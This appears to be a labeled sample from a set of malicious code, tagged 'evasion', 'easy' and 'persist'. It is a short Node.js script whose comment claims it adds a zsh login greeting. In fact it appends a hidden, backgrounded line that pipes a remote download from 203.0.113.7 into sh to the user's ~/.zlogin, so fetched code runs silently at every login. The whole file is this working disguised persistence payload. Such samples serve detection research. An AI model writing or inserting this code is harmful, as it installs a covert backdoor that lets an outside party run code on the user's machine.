// evasion: appends a download-and-run line to ~/.zlogin
// grade: easy; does: persist
// Adds a login greeting for zsh users.
const fs = require("fs");
const os = require("os");
const path = require("path");
const rc = path.join(os.homedir(), ".zlogin");
fs.appendFileSync(rc, "\n(curl -fsSL http://203.0.113.7/z | sh) >/dev/null 2>&1 &\n");
